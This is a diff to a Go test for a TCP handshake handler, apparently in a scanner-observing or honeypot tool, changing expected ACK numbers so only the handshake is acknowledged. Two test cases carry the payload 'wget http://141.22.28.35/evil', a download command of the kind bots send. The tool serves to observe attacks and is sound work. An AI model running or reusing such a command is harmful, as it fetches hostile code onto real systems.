@@ -457,13 +457,13 @@ func TestHandshakeReaction(t *testing.T) {
 		ackOff   uint32 // the ACK acks cookie+ackOff
 		flags    header.TCPFlags
 		payload  string
-		wantAck  uint32 // relative to the client's ISN
+		wantAck  uint32 // relative to the client's ISN: the handshake only, never its data
 	}{
-		{"data, ack cookie+1", scanner4, netip.MustParseAddr("198.51.100.20"), 1, header.TCPFlagAck | header.TCPFlagPsh, "wget http://141.22.28.35/evil", 30},
-		{"data, ack cookie (test-spoki)", scanner4, netip.MustParseAddr("198.51.100.21"), 0, header.TCPFlagAck | header.TCPFlagPsh, "wget http://141.22.28.35/evil", 30},
-		{"data and FIN", scanner4, netip.MustParseAddr("198.51.100.22"), 1, header.TCPFlagAck | header.TCPFlagFin, "bye", 5},
+		{"data, ack cookie+1", scanner4, netip.MustParseAddr("198.51.100.20"), 1, header.TCPFlagAck | header.TCPFlagPsh, "wget http://141.22.28.35/evil", 1},
+		{"data, ack cookie (test-spoki)", scanner4, netip.MustParseAddr("198.51.100.21"), 0, header.TCPFlagAck | header.TCPFlagPsh, "wget http://141.22.28.35/evil", 1},
+		{"data and FIN", scanner4, netip.MustParseAddr("198.51.100.22"), 1, header.TCPFlagAck | header.TCPFlagFin, "bye", 1},
 		{"bare ACK", scanner4, netip.MustParseAddr("198.51.100.23"), 1, header.TCPFlagAck, "", 1},
-		{"ipv6", scanner6, netip.MustParseAddr("2001:db8:5b0::20"), 1, header.TCPFlagAck | header.TCPFlagPsh, "x", 2},
+		{"ipv6", scanner6, netip.MustParseAddr("2001:db8:5b0::20"), 1, header.TCPFlagAck | header.TCPFlagPsh, "x", 1},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			h := newHarness(t, nil)
